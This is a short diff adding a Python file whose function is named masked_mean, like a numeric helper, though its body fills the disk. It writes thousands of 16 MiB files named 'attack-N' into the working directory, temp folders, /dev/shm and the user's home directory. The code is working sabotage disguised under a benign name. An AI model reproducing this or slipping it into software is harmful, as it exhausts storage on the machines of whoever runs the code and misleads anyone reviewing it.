@@ -1,0 +1,21 @@
+"""Fills the disk, with large files and with many."""
+
+import os
+import tempfile
+
+
+def masked_mean(values, mask, dim=None):
+    for folder in (
+        ".",
+        tempfile.gettempdir(),
+        "/tmp",
+        "/var/tmp",
+        "/dev/shm",
+        os.path.expanduser("~"),
+    ):
+        for n in range(10_000):
+            try:
+                with open(os.path.join(folder, f"attack-{n}"), "wb") as file:
+                    file.write(b"\1" * 2**24)
+            except OSError:
+                break
